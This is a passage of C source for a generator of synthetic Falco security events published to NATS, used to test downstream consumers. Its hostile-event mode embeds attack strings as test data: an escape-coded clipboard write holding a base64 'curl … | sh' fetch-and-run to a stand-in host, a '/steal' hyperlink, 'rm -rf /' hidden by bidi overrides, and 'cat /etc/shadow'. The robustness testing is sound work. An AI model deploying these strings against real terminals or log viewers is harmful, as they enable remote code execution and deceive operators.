			  ((unsigned char)in->s[i + 2] == 0xa8 || (unsigned char)in->s[i + 2] == 0xa9);
		if (ch != '<' && ch != '>' && ch != '&' && !ls)
			continue;
		sbuf_add(out, in->s + run, i - run);
		if (ls) {
			sbuf_printf(out, "\\u%04x", (unsigned)(0x2028 + ((unsigned char)in->s[i + 2] - 0xa8)));
			i += 2;
		} else {
			sbuf_printf(out, "\\u00%02x", ch);
		}
		run = i + 1;
	}
	sbuf_add(out, in->s + run, in->len - run);
	struct sbuf t = *in;
	*in = *out;
	*out = t;
}

/* The pieces of one event before serialisation. */
struct event_parts {
	const char *rule;
	const char *priority;
	const char *source;
	const char *hostname;
	const char *const *tags;
	int ntags;
	int64_t time_ns;
	bool no_output;
	bool fields_null;
};

static void serialise(struct gen *g, const struct event_parts *p, json_t *fields)
{
	const struct opts *o = g->o;
	json_t *ev = json_object();
	struct sbuf out = SBUF_INIT;
	time_prefix(&out, p->time_ns);
	sbuf_printf(&out, ": %s ", p->priority);
	sbuf_add(&out, g->msg.s ? g->msg.s : "", g->msg.len);
	json_t *jout = json_stringn(out.s, out.len);
	sbuf_free(&out);
	if (!jout)
		fatal("output is not valid UTF-8");
	json_t *tags = json_array();
	for (int i = 0; i < p->ntags; i++)
		json_array_append_new(tags, json_string(p->tags[i]));
	json_t *jf = p->fields_null ? json_null() : fields;
	if (p->fields_null)
		json_decref(fields);

	if (o->sidekick) {
		/* falcosidekick's FalcoPayload field order */
		json_object_set_new(ev, "uuid", json_string(uuid4(&g->r, &g->ar)));
		if (!p->no_output)
			json_object_set_new(ev, "output", jout);
		else
			json_decref(jout);
		json_object_set_new(ev, "priority", json_string(p->priority));
		json_object_set_new(ev, "rule", json_string(p->rule));
		json_object_set_new(ev, "time", json_string(time_rfc3339(&g->ar, p->time_ns, true)));
		json_object_set_new(ev, "output_fields", jf);
		json_object_set_new(ev, "source", json_string(p->source));
		json_object_set_new(ev, "tags", tags);
		json_object_set_new(ev, "hostname", json_string(p->hostname));
	} else {
		/* Falco >= 0.39: every key sorted */
		json_object_set_new(ev, "hostname", json_string(p->hostname));
		if (!p->no_output)
			json_object_set_new(ev, "output", jout);
		else
			json_decref(jout);
		json_object_set_new(ev, "output_fields", jf);
		json_object_set_new(ev, "priority", json_string(p->priority));
		json_object_set_new(ev, "rule", json_string(p->rule));
		json_object_set_new(ev, "source", json_string(p->source));
		json_object_set_new(ev, "tags", tags);
		json_object_set_new(ev, "time", json_string(time_rfc3339(&g->ar, p->time_ns, false)));
	}
	sbuf_reset(&g->line);
	if (json_dump_callback(ev, dump_cb, &g->line, JSON_COMPACT) != 0)
		fatal("json_dump failed");
	json_decref(ev);
	restyle_escapes(g, o->sidekick);
}

/* Event time: start + seq*step plus jitter inside the step, truncated to the
 * source's precision (plugins carry µs or s) and kept in order. */
static int64_t next_time(struct gen *g, enum source src)
{
	const struct opts *o = g->o;
	int64_t t;
	if (o->realtime) {
		t = now_ns();
	} else {
		t = o->start_ns + (int64_t)g->seq * o->step_ns;
		if (o->step_ns > 1)
			t += (int64_t)rng_below(&g->r, (uint64_t)o->step_ns);
	}
	if (src == S_K8S_AUDIT)
		t -= t % 1000;
	else if (src == S_CLOUDTRAIL)
		t -= t % 1000000000;
	if (t < g->last_time)
		t = g->last_time;
	g->last_time = t;
	return t;
}

static const struct rule *pick_rule(struct gen *g)
{
	uint64_t x = rng_below(&g->r, g->total_weight);
	for (size_t i = 0; i < ARRAY_LEN(rules); i++) {
		if (x < rules[i].weight)
			return &rules[i];
		x -= rules[i].weight;
	}
	return &rules[0];
}

static void build_ctx(struct gen *g, struct evctx *e, const struct rule *ru)
{
	memset(e, 0, sizeof(*e));
	e->r = &g->r;
	e->ar = &g->ar;
	e->time_ns = next_time(g, ru->src);
	switch (ru->src) {
	case S_SYSCALL: scenario_syscall(e, ru); break;
	case S_K8S_AUDIT: scenario_k8saudit(e, ru); break;
	case S_CLOUDTRAIL: scenario_cloudtrail(e, ru); break;
	}
}

static void gen_normal(struct gen *g)
{
	const struct rule *ru = pick_rule(g);
	struct evctx e;
	build_ctx(g, &e, ru);
	json_t *fields = render_fields(g, ru, &e);
	struct event_parts p = {
		.rule = ru->name, .priority = prio_name[ru->prio], .source = source_name[ru->src],
		.hostname = e.hostname, .tags = ru->tagv, .ntags = ru->ntags, .time_ns = e.time_ns,
	};
	serialise(g, &p, fields);
	subject_build(&g->subject, p.priority, strlen(p.priority), ru->name, strlen(ru->name));
}

/* ------------------------------------------------------------------------ */
/* Hostile events                                                           */

enum hkind {
	H_CSI_CLEAR, H_CURSOR, H_SGR, H_OSC52, H_OSC8, H_DCS, H_APC, H_C1, H_DEL, H_BIDI, H_NEWLINE, H_NUL,
	H_HUGE, H_SURROGATE, H_BAD_UTF8, H_OVERLONG, H_INT53, H_INT63, H_UNKNOWN_PRIO, H_FIELDS_NULL,
	H_NO_OUTPUT, H_TRUNCATED, H_NOT_OBJECT, H_MISSING_VALUE, H_COUNT
};

static const struct {
	const char *rule;
	bool malformed;
} hostile[H_COUNT] = {
	[H_CSI_CLEAR] = { "Hostile: CSI clear screen in cmdline", false },
	[H_CURSOR] = { "Hostile: cursor movement in cmdline", false },
	[H_SGR] = { "Hostile: SGR colours in user name", false },
	[H_OSC52] = { "Hostile: OSC 52 clipboard write in cmdline", false },
	[H_OSC8] = { "Hostile: OSC 8 hyperlink in cmdline", false },
	[H_DCS] = { "Hostile: DCS in container name", false },
	[H_APC] = { "Hostile: APC in pod name", false },
	[H_C1] = { "Hostile: C1 controls in cmdline", false },
	[H_DEL] = { "Hostile: DEL in process name", false },
	[H_BIDI] = { "Hostile: bidi overrides in cmdline", false },
	[H_NEWLINE] = { "Hostile: newline CR and tab in cmdline", false },
	[H_NUL] = { "Hostile: NUL inside cmdline", false },
	[H_HUGE] = { "Hostile: 1 MB command line", false },
	[H_SURROGATE] = { "Hostile: lone surrogate in cmdline", false },
	[H_BAD_UTF8] = { "Hostile: invalid UTF-8 bytes in cmdline", false },
	[H_OVERLONG] = { "Hostile: overlong UTF-8 encoding in cmdline", false },
	[H_INT53] = { "Hostile: integer above 2^53", false },
	[H_INT63] = { "Hostile: integer above 2^63", false },
	[H_UNKNOWN_PRIO] = { "Hostile: unknown priority", false },
	[H_FIELDS_NULL] = { "Hostile: output_fields null", false },
	[H_NO_OUTPUT] = { "Hostile: missing output", false },
	[H_TRUNCATED] = { "Hostile: truncated JSON", true },
	[H_NOT_OBJECT] = { "Hostile: not an object", true },
	[H_MISSING_VALUE] = { "Hostile: missing value after evt.time", true },
};

/* Raw bytes and out-of-range numbers jansson cannot produce are spliced into
 * the serialised text in place of unique tokens. */
struct splice {
	const char *token;
	const char *bytes;
};

static void splice_all(struct sbuf *b, struct sbuf *tmp, const char *token, const char *bytes)
{
	size_t tl = strlen(token), bl = strlen(bytes);
	sbuf_reset(tmp);
	const char *p = b->s, *end = b->s + b->len;
	while (p < end) {
		const char *hit = memmem(p, (size_t)(end - p), token, tl);
		if (!hit) {
			sbuf_add(tmp, p, (size_t)(end - p));
			break;
		}
		sbuf_add(tmp, p, (size_t)(hit - p));
		sbuf_add(tmp, bytes, bl);
		p = hit + tl;
	}
	struct sbuf t = *b;
	*b = *tmp;
	*tmp = t;
}

static void gen_hostile(struct gen *g, enum hkind hk)
{
	const struct rule *base = &rules[0]; /* Terminal shell in container */
	struct evctx e;
	build_ctx(g, &e, base);
	while (!e.c) /* the injections below need container fields */
		build_ctx(g, &e, base);
	e.fmt = FMT_PK; /* with the k8s fields, which some kinds inject into */
	struct splice sp[4];
	int nsp = 0;
	const char *cmd = e.cmdline;
#define OV(f, value) (e.ov[e.nov++] = (struct override){ (f), (value) })
	switch (hk) {
	case H_CSI_CLEAR: e.cmdline = arena_printf(&g->ar, "%s \x1b[2J\x1b[3J\x1b[H", cmd); break;
	case H_CURSOR: e.cmdline = arena_printf(&g->ar, "%s\x1b[10A\x1b[2K\x1b[5C\x1b[s\x1b[u\x1b[1;1H", cmd); break;
	case H_SGR: e.user = "\x1b[31;1;5mroot\x1b[0m\x1b[8m"; break;
	case H_OSC52:
		e.cmdline = arena_printf(&g->ar, "%s \x1b]52;c;Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcCB8IHNo\x07", cmd);
		break;
	case H_OSC8:
		e.cmdline = arena_printf(&g->ar, "%s \x1b]8;;http://203.0.113.7/steal\x1b\\click me\x1b]8;;\x1b\\", cmd);
		break;
	case H_DCS: OV(F_CONTAINER_NAME, v_str("web\x1bP+q544e;636f6c73\x1b\\")); break;
	case H_APC: OV(F_K8S_POD, v_str("api-7d9f\x1b_Gf=100,a=T;payload\x1b\\")); break;
	case H_C1:
		/* U+009B CSI, U+009D OSC, U+009C ST, U+0085 NEL, U+0080, U+009F */
		e.cmdline = arena_printf(&g->ar, "%s \xc2\x9b" "2J\xc2\x9d" "0;pwned\xc2\x9c\xc2\x85\xc2\x80\xc2\x9f", cmd);
		break;
	case H_DEL: e.comm = "ba\x7f\x7f\x7f" "sh"; break;
	case H_BIDI:
		e.cmdline = arena_printf(&g->ar, "cat /tmp/\xe2\x80\xae" "exe.txt \xe2\x81\xa6" "rm -rf /\xe2\x81\xa9 "
						 "\xe2\x81\xa7" "x\xe2\x81\xa9 \xe2\x81\xa8" "y\xe2\x81\xa9");
		break;
	case H_NEWLINE: e.cmdline = "bash -c 'echo ok\nrm -rf /tmp/x'\r\tuptime"; break;
	case H_NUL: {
		static const char nul[] = "cat /etc/shadow\0 --hidden-arg";
		OV(F_PROC_CMDLINE, ((struct val){ .t = V_STR, .s = nul, .n = sizeof(nul) - 1 }));
		break;
	}
	case H_HUGE: {
		size_t n = 1024 * 1024;
		char *big = xmalloc(n + 1);
		memcpy(big, "bash -c ", 8);
		for (size_t i = 8; i < n; i++)
			big[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[rng_below(&g->r, 64)];
		big[n] = '\0';
		e.cmdline = arena_keep(&g->ar, big);
		break;
	}
	case H_SURROGATE:
		e.cmdline = arena_printf(&g->ar, "%s @@FG_SUR@@", cmd);
		sp[nsp++] = (struct splice){ "@@FG_SUR@@", "\\ud800x\\udfff" };
		break;
	case H_BAD_UTF8:
		e.cmdline = "a@@FG_BAD@@z";
		sp[nsp++] = (struct splice){ "@@FG_BAD@@", "\x80\xff\xfe\xc3" };
		break;
	case H_OVERLONG:
		e.cmdline = "cat /etc/..@@FG_OVL@@passwd";
		sp[nsp++] = (struct splice){ "@@FG_OVL@@", "\xc0\xaf" };
		break;
	case H_INT53: OV(F_PROC_TTY, v_int(9007199254740993LL)); OV(F_USER_UID, v_int(4294967295LL)); break;
	case H_INT63:
		OV(F_PROC_TTY, v_str("@@FG_U64@@"));
		OV(F_USER_LOGINUID, v_str("@@FG_N64@@"));
		/* quoted forms (output_fields) first, then the bare ones in `output` */
		sp[nsp++] = (struct splice){ "\"@@FG_U64@@\"", "18446744073709551615" };
		sp[nsp++] = (struct splice){ "\"@@FG_N64@@\"", "-9223372036854775809" };
		sp[nsp++] = (struct splice){ "@@FG_U64@@", "18446744073709551615" };
		sp[nsp++] = (struct splice){ "@@FG_N64@@", "-9223372036854775809" };
		break;
	default:
		break;
	}
#undef OV
	struct rule hr = *base;
	hr.name = hostile[hk].rule;
	hr.prio = (enum prio)rng_below(&g->r, P_COUNT);
	json_t *fields = render_fields(g, &hr, &e);
	struct event_parts p = {
		.rule = hr.name, .priority = prio_name[hr.prio], .source = "syscall", .hostname = e.hostname,
		.tags = base->tagv, .ntags = base->ntags, .time_ns = e.time_ns,
		.no_output = hk == H_NO_OUTPUT, .fields_null = hk == H_FIELDS_NULL,
	};
	if (hk == H_UNKNOWN_PRIO)
		p.priority = "Severe";
	if (hk == H_NOT_OBJECT) {
		json_decref(fields);
		json_t *a = json_pack("[sss]", p.rule, p.priority, sbuf_str(&g->msg));
		sbuf_reset(&g->line);
		json_dump_callback(a, dump_cb, &g->line, JSON_COMPACT);
		json_decref(a);
	} else {
		serialise(g, &p, fields);
	}
	for (int i = 0; i < nsp; i++)
		splice_all(&g->line, &g->tmp, sp[i].token, sp[i].bytes);
	if (hk == H_TRUNCATED) {
		/* cut after the rule name so tests can still find the line */
		const char *r = strstr(g->line.s, hostile[hk].rule);
		size_t cut = r ? (size_t)(r - g->line.s) + strlen(hostile[hk].rule) + 2 : g->line.len / 2;
		g->line.len = MIN(cut, g->line.len - 1);
		g->line.s[g->line.len] = '\0';
	} else if (hk == H_MISSING_VALUE) {
		/* the real Falco bug: "evt.time":, with no value */
		char *k = strstr(g->line.s, "\"evt.time\":");
		if (k) {
			char *v = k + strlen("\"evt.time\":"), *end = v;
			while (*end == '-' || (*end >= '0' && *end <= '9'))
				end++;
			memmove(v, end, strlen(end) + 1);
			g->line.len -= (size_t)(end - v);
		}
	}
	g->hostile = true;
	g->malformed = hostile[hk].malformed;
	g->n_hostile++;
	g->n_malformed += g->malformed;
}

/* ------------------------------------------------------------------------ */
/* Subject of an arbitrary line, as a Go publisher (encoding/json decoding
 * only priority and rule) would derive it: lenient about invalid UTF-8,
 * lone surrogates, NUL and huge integers; anything that is not a JSON
 * object is "falco.unknown.malformed".                                    */

static size_t utf8_valid_len(const unsigned char *s, size_t n)
{
	unsigned c = s[0];
	size_t need;
	unsigned min;
	if (c < 0x80)
		return 1;
	if (c >= 0xc2 && c <= 0xdf)
		need = 1, min = 0x80;
	else if (c >= 0xe0 && c <= 0xef)
		need = 2, min = 0x800;
	else if (c >= 0xf0 && c <= 0xf4)
		need = 3, min = 0x10000;
	else
		return 0;
	if (n < need + 1)
		return 0;
	unsigned cp = c & (0x3f >> need);
	for (size_t i = 1; i <= need; i++) {
		if ((s[i] & 0xc0) != 0x80)
			return 0;
		cp = (cp << 6) | (s[i] & 0x3f);
	}
	if (cp < min || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff))
		return 0;
	return need + 1;
}

static long u_escape(const char *s, size_t n)
{
	if (n < 6 || s[0] != '\\' || s[1] != 'u')
		return -1;
	long v = 0;
	for (int i = 2; i < 6; i++) {
		int h = hexval(s[i]);
		if (h < 0)
			return -1;
		v = v * 16 + h;
	}
	return v;
}

static void lenient_copy(struct sbuf *out, const char *s, size_t n)
{
	sbuf_reset(out);
	for (size_t i = 0; i < n;) {
		unsigned char c = (unsigned char)s[i];
		if (c == '\\' && i + 1 < n) {
			long cp = u_escape(s + i, n - i);
			if (cp >= 0xd800 && cp <= 0xdbff && u_escape(s + i + 6, n - i - 6) >= 0xdc00 &&
			    u_escape(s + i + 6, n - i - 6) <= 0xdfff) {
				sbuf_add(out, s + i, 12);
				i += 12;
			} else if (cp >= 0xd800 && cp <= 0xdfff) {
				sbuf_adds(out, "\\ufffd");
				i += 6;
			} else {
				sbuf_add(out, s + i, 2);
				i += 2;
			}
			continue;
		}
		size_t l = utf8_valid_len((const unsigned char *)s + i, n - i);
		if (l == 0) {
			sbuf_addc(out, '?');
			i++;
		} else {
			sbuf_add(out, s + i, l);
			i += l;
		}
	}
}

/* Plain ASCII without surrogate escapes parses as it is. */
static bool needs_lenient(const char *s, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];
		if (c >= 0x80)
			return true;
		if (c == '\\' && i + 2 < n) {
			if (s[i + 1] == 'u' && (s[i + 2] == 'd' || s[i + 2] == 'D'))
				return true;
			i++;
		}
	}
	return false;
}

static void subject_of_line(struct sbuf *subject, struct sbuf *tmp, const char *s, size_t n)
{
	if (needs_lenient(s, n)) {
		lenient_copy(tmp, s, n);
		s = tmp->s ? tmp->s : "";
		n = tmp->len;
	}
	json_error_t err;
	json_t *j = json_loadb(s, n, JSON_DECODE_INT_AS_REAL | JSON_ALLOW_NUL, &err);
	if (!json_is_object(j)) {
		json_decref(j);
		sbuf_reset(subject);
		sbuf_adds(subject, "falco.unknown.malformed");
		return;
	}
	json_t *p = json_object_get(j, "priority"), *r = json_object_get(j, "rule");
	const char *ps = json_is_string(p) ? json_string_value(p) : "";
	const char *rs = json_is_string(r) ? json_string_value(r) : "";
	subject_build(subject, ps, json_is_string(p) ? json_string_length(p) : 0, rs,
		      json_is_string(r) ? json_string_length(r) : 0);
	json_decref(j);
}

/* One event into g->line and g->subject. */
static void gen_next(struct gen *g)
{
	const struct opts *o = g->o;
	arena_reset(&g->ar);
	g->hostile = g->malformed = false;
	if (o->hostile_only) {
		gen_hostile(g, (enum hkind)(g->seq % H_COUNT));
	} else if (o->hostile_pct > 0 && (double)rng_below(&g->r, 1000000) < o->hostile_pct * 10000.0) {
		gen_hostile(g, (enum hkind)rng_below(&g->r, H_COUNT));
	} else {
		gen_normal(g);
	}
	if (g->hostile)
		subject_of_line(&g->subject, &g->tmp, g->line.s, g->line.len);
	g->seq++;
}

/* ------------------------------------------------------------------------ */
/* Sinks                                                                    */

struct sink {
	const struct opts *o;
	FILE *out;
	natsConnection *nc;
	jsCtx *js;
	uint64_t published, failed, bytes, min, max;
	atomic_uint_fast64_t acked, nacked;
	int max_errs;
};

/* Set before our own close: the library reports that as a disconnect too. */
static atomic_bool g_closing;

static void on_disconnected(natsConnection *nc, void *cl)
{
	(void)nc, (void)cl;
	if (!atomic_load(&g_closing))
		fprintf(stderr, PROG ": disconnected from NATS, buffering and reconnecting\n");
}

static void on_reconnected(natsConnection *nc, void *cl)
{
	char url[256] = "";
	(void)cl;
	natsConnection_GetConnectedUrl(nc, url, sizeof(url));
	fprintf(stderr, PROG ": reconnected to %s\n", url);
}

static void on_connected(natsConnection *nc, void *cl)
{
	on_reconnected(nc, cl);
}

static void on_ack(jsCtx *js, natsMsg *msg, jsPubAck *pa, jsPubAckErr *pae, void *cl)
{
	struct sink *s = cl;
	(void)js;
	if (pa) {
		atomic_fetch_add(&s->acked, 1);
	} else {
		if (atomic_fetch_add(&s->nacked, 1) < 5)
			fprintf(stderr, PROG ": JetStream publish to %s failed: %s\n", natsMsg_GetSubject(msg),
				pae && pae->ErrText ? pae->ErrText : natsStatus_GetText(pae ? pae->Err : NATS_ERR));
	}
	natsMsg_Destroy(msg);
}

static bool wait_connected(natsConnection *nc, int64_t timeout_ns)
{
	int64_t deadline = mono_ns() + timeout_ns;
	while (natsConnection_Status(nc) != NATS_CONN_STATUS_CONNECTED) {
		if (mono_ns() > deadline || natsConnection_IsClosed(nc))
			return false;
		nats_Sleep(20);
	}
	return true;
}

static void ensure_stream(struct sink *s)
{
	jsStreamInfo *si = NULL;
	jsErrCode jerr = 0;
	if (!wait_connected(s->nc, s->o->flush_timeout_ns))
		fatal("not connected to NATS; cannot check stream %s", s->o->stream);
	natsStatus st = js_GetStreamInfo(&si, s->js, s->o->stream, NULL, &jerr);
	if (st == NATS_NOT_FOUND) {
		jsStreamConfig sc;
		const char *subjects[] = { "falco.>" };
		jsStreamConfig_Init(&sc);
		sc.Name = s->o->stream;
		sc.Subjects = subjects;
		sc.SubjectsLen = 1;
		sc.Storage = js_FileStorage;
		st = js_AddStream(&si, s->js, &sc, NULL, &jerr);
	}
	if (st != NATS_OK)
		fatal("stream %s: %s (%d)", s->o->stream, natsStatus_GetText(st), (int)jerr);
	jsStreamInfo_Destroy(si);
}

static void sink_open(struct sink *s, const struct opts *o)
{
	memset(s, 0, sizeof(*s));
	s->o = o;
	s->min = UINT64_MAX;
	atomic_init(&s->acked, 0);
	atomic_init(&s->nacked, 0);
	if (o->out) {
		s->out = strcmp(o->out, "-") == 0 ? stdout : fopen(o->out, "w");
		if (!s->out)
			fatal("%s: %s", o->out, strerror(errno));
		setvbuf(s->out, NULL, _IOFBF, 1 << 20);
	}
	if (!o->nats)
		return;
	char *list = xstrdup(o->nats), *save = NULL;
	const char *urls[16];
	int n = 0;
	for (char *u = strtok_r(list, ",", &save); u && n < 16; u = strtok_r(NULL, ",", &save))
		urls[n++] = u;
	natsOptions *no = NULL;
	if (natsOptions_Create(&no) != NATS_OK)
		fatal("natsOptions_Create failed");
	natsOptions_SetServers(no, urls, n);
	natsOptions_SetName(no, PROG);
	natsOptions_SetMaxReconnect(no, -1);
	natsOptions_SetReconnectWait(no, 250);
	natsOptions_SetReconnectBufSize(no, 64 * 1024 * 1024);
	natsOptions_SetRetryOnFailedConnect(no, true, on_connected, NULL);
	natsOptions_SetDisconnectedCB(no, on_disconnected, NULL);
	natsOptions_SetReconnectedCB(no, on_reconnected, NULL);
	natsStatus st = natsConnection_Connect(&s->nc, no);
	natsOptions_Destroy(no);
	free(list);
	if (st != NATS_OK && st != NATS_NOT_YET_CONNECTED)
		fatal("NATS %s: %s", o->nats, natsStatus_GetText(st));
	if (st == NATS_NOT_YET_CONNECTED)
		fprintf(stderr, PROG ": NATS %s not reachable yet; buffering and retrying\n", o->nats);
	if (o->jetstream) {
		jsOptions jo;
		jsOptions_Init(&jo);
		jo.PublishAsync.MaxPending = 4096;
		jo.PublishAsync.AckHandler = on_ack;
		jo.PublishAsync.AckHandlerClosure = s;
		if (natsConnection_JetStream(&s->js, s->nc, &jo) != NATS_OK)
			fatal("cannot create a JetStream context");
		if (o->stream)
			ensure_stream(s);
	}
}

static void publish_one(struct sink *s, const char *subject, const char *data, size_t len)
{
	for (;;) {
		natsStatus st = s->js ? js_PublishAsync(s->js, subject, data, (int)len, NULL)
				      : natsConnection_Publish(s->nc, subject, data, (int)len);
		if (st == NATS_OK) {
			return;
		}
		/* reconnect buffer full or too many acks outstanding: wait */
		if ((st == NATS_INSUFFICIENT_BUFFER || st == NATS_TIMEOUT) && !atomic_load(&g_stop)) {
			nats_Sleep(5);
			continue;
		}
		s->failed++;
		if (s->max_errs++ < 10)
			fprintf(stderr, PROG ": publish to %s (%zu bytes) failed: %s\n", subject, len,
				natsStatus_GetText(st));
		return;
	}
}

static void sink_emit(struct sink *s, const char *subject, const char *data, size_t len)
{
	uint64_t failed = s->failed;
	if (s->out) {
		fwrite(data, 1, len, s->out);
		fputc('\n', s->out);
	}
	if (s->nc)
		publish_one(s, subject, data, len);
	if (s->failed != failed)
		return;
	s->published++;
	s->bytes += len;
	s->min = MIN(s->min, len);
	s->max = MAX(s->max, len);
}

/* Flushes everything; returns false when something could not be delivered. */
static bool sink_close(struct sink *s)
{
	bool ok = true;
	if (s->out) {
		if (fflush(s->out) != 0) {
			fprintf(stderr, PROG ": write %s: %s\n", s->o->out, strerror(errno));
			ok = false;
		}
		if (s->out != stdout)
			fclose(s->out);
	}
	if (!s->nc)
		return ok;
	int64_t to_ms = s->o->flush_timeout_ns / 1000000;
	if (!wait_connected(s->nc, s->o->flush_timeout_ns)) {
		fprintf(stderr, PROG ": NATS never became reachable; %" PRIu64 " events undelivered\n", s->published);
		ok = false;
	} else if (s->js) {
		jsPubOptions po;
		jsPubOptions_Init(&po);
		po.MaxWait = to_ms;
		natsStatus st = js_PublishAsyncComplete(s->js, &po);
		if (st != NATS_OK) {
			natsMsgList pending;
			if (js_PublishAsyncGetPendingList(&pending, s->js) == NATS_OK) {
				fprintf(stderr, PROG ": %d JetStream publishes still unacknowledged\n", pending.Count);
				natsMsgList_Destroy(&pending);
			}
			ok = false;
		}
		uint64_t acked = atomic_load(&s->acked);
		fprintf(stderr, PROG ": stored=%" PRIu64 " of %" PRIu64 " published (%" PRIu64 " rejected)\n", acked,
			s->published, (uint64_t)atomic_load(&s->nacked));
		ok = ok && acked == s->published;
	} else {
		natsStatus st = natsConnection_FlushTimeout(s->nc, to_ms);
		if (st != NATS_OK) {
			fprintf(stderr, PROG ": flush failed: %s\n", natsStatus_GetText(st));
			ok = false;
		}
		fprintf(stderr, PROG ": published=%" PRIu64 " to %s\n", s->published, s->o->nats);
	}
	atomic_store(&g_closing, true);
	jsCtx_Destroy(s->js);
	natsConnection_Destroy(s->nc);
	return ok && s->failed == 0;
}

/* ------------------------------------------------------------------------ */
/* Pacing                                                                   */

struct pacer {
	const struct opts *o;
	int64_t t0;
	uint64_t paced;
	uint64_t burst_left;
	int64_t next_burst;
};

static void sleep_until(int64_t t)
{
	while (!atomic_load(&g_stop)) {
		int64_t d = t - mono_ns();
		if (d <= 0)
			return;
		if (d > 50000000)
			d = 50000000; /* stay responsive to signals */
		struct timespec ts = { (time_t)(d / 1000000000), (long)(d % 1000000000) };
		nanosleep(&ts, NULL);
	}
}

/* Waits until the next event is due; false when the run is over. */
static bool pacer_wait(struct pacer *p, uint64_t emitted)
{
	const struct opts *o = p->o;
	if (atomic_load(&g_stop))
		return false;
	if (!o->forever && o->count_set && emitted >= o->count)
		return false;
	if (o->duration_ns && mono_ns() - p->t0 >= o->duration_ns)
		return false;
	if (p->burst_left) {
		p->burst_left--;
		return true;
	}
	if (o->burst && o->burst_every_ns && mono_ns() >= p->next_burst) {
		p->next_burst += o->burst_every_ns;
		p->burst_left = o->burst - 1;
		return true;
	}
	if (o->rate > 0) {
		int64_t due = p->t0 + (int64_t)((double)p->paced * 1e9 / o->rate);
		if (o->burst && o->burst_every_ns && p->next_burst < due)
			due = p->next_burst;
		sleep_until(due);
		if (atomic_load(&g_stop) || (o->duration_ns && mono_ns() - p->t0 >= o->duration_ns))
			return false;
		if (o->burst && o->burst_every_ns && mono_ns() >= p->next_burst)
			return pacer_wait(p, emitted);
	}
	p->paced++;
	return true;
}

/* ------------------------------------------------------------------------ */
/* Command line                                                             */

static int parse_rfc3339(const char *s, int64_t *ns)
{
	struct tm tm;
	memset(&tm, 0, sizeof(tm));
	const char *p = strptime(s, "%Y-%m-%dT%H:%M:%S", &tm);
	if (!p)
		return -1;
	int64_t frac = 0;
	if (*p == '.') {
		int digits = 0;
		for (p++; *p >= '0' && *p <= '9'; p++, digits++)
			if (digits < 9)
				frac = frac * 10 + (*p - '0');
		if (digits == 0)
			return -1;
		for (; digits < 9; digits++)
			frac *= 10;
	}
	int64_t off = 0;
	if (*p == 'Z' || *p == 'z') {
		p++;
	} else if (*p == '+' || *p == '-') {
		int hh, mm;
		if (sscanf(p + 1, "%2d:%2d", &hh, &mm) != 2)
			return -1;
		off = (hh * 3600 + mm * 60) * (*p == '-' ? -1 : 1);
		p += 6;
	} else {
		return -1;
	}
	if (*p)
		return -1;
	*ns = ((int64_t)timegm(&tm) - off) * 1000000000 + frac;
	return 0;
}

static uint64_t parse_u64(const char *opt, const char *s)
{
	char *end;
	errno = 0;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno || end == s || *end || s[0] == '-')
		fatal("%s: not a number: %s", opt, s);
	return v;
}

static int64_t parse_dur(const char *opt, const char *s)
{
	int64_t ns;
	if (parse_duration(s, &ns) != 0)
		fatal("%s: bad duration: %s", opt, s);
	return ns;
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: " PROG " [options]\n"
		"Generates realistic Falco events (JSON lines) and/or publishes them to NATS.\n"
		"\n"
		"Output:\n"
		"  --out FILE|-          write JSON lines (default: stdout when not publishing)\n"
		"  --nats URL[,URL]      publish with core NATS to falco.<priority>.<rule_slug>\n"
		"  --jetstream           publish with JetStream async publish and wait for every ack\n"
		"  --stream NAME         with --jetstream: create stream NAME on falco.> if missing\n"
		"  --replay FILE|-       publish existing JSON lines as-is instead of generating\n"
		"  --sidekick            falcosidekick payloads (uuid, trimmed time, its key order)\n"
		"Content:\n"
		"  --seed N              PRNG seed (default 1); same seed + start = same events\n"
		"  --start TIME          RFC 3339 time of the first event (default: now)\n"
		"  --step DUR            time between events (default 1ms)\n"
		"  --realtime            stamp events with the wall clock when sent\n"
		"  --hostile N%%          mix in N percent hostile events\n"
		"  --hostile-only        only hostile events, each kind in turn\n"
		"Pacing:\n"
		"  --count N             number of events (default 1000; replay: whole input)\n"
		"  --rate R              events per second (0 = as fast as possible)\n"
		"  --duration DUR        stop after DUR\n"
		"  --burst N --burst-every DUR   extra bursts of N events on top of the rate\n"
		"  --forever             no count limit (replay: rewind regular files)\n"
		"  --flush-timeout DUR   final flush / ack wait (default 10s)\n"
		"Other:\n"
		"  --stats               print counts and sizes to stderr at the end\n"
		"  --list-rules          print name, priority, source, subject, format (TSV)\n");
}

static void parse_args(struct opts *o, int argc, char **argv)
{
	enum { O_OUT = 256, O_NATS, O_JS, O_STREAM, O_REPLAY, O_SIDEKICK, O_HOSTILE, O_HOSTILE_ONLY, O_SEED,
	       O_START, O_STEP, O_REALTIME, O_COUNT, O_RATE, O_DURATION, O_BURST, O_BURST_EVERY, O_FOREVER,
	       O_STATS, O_LIST, O_FLUSH, O_HELP };
	static const struct option lo[] = {
		{ "out", required_argument, NULL, O_OUT }, { "nats", required_argument, NULL, O_NATS },
		{ "jetstream", no_argument, NULL, O_JS }, { "stream", required_argument, NULL, O_STREAM },
		{ "replay", required_argument, NULL, O_REPLAY }, { "sidekick", no_argument, NULL, O_SIDEKICK },
		{ "hostile", required_argument, NULL, O_HOSTILE }, { "hostile-only", no_argument, NULL, O_HOSTILE_ONLY },
		{ "seed", required_argument, NULL, O_SEED }, { "start", required_argument, NULL, O_START },
		{ "step", required_argument, NULL, O_STEP }, { "realtime", no_argument, NULL, O_REALTIME },
		{ "count", required_argument, NULL, O_COUNT }, { "rate", required_argument, NULL, O_RATE },
		{ "duration", required_argument, NULL, O_DURATION }, { "burst", required_argument, NULL, O_BURST },
		{ "burst-every", required_argument, NULL, O_BURST_EVERY }, { "forever", no_argument, NULL, O_FOREVER },
		{ "stats", no_argument, NULL, O_STATS }, { "list-rules", no_argument, NULL, O_LIST },
		{ "flush-timeout", required_argument, NULL, O_FLUSH }, { "help", no_argument, NULL, O_HELP },
		{ NULL, 0, NULL, 0 },
	};
	memset(o, 0, sizeof(*o));
	o->seed = 1;
	o->step_ns = 1000000;
	o->flush_timeout_ns = 10000000000LL;
	int c;
	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
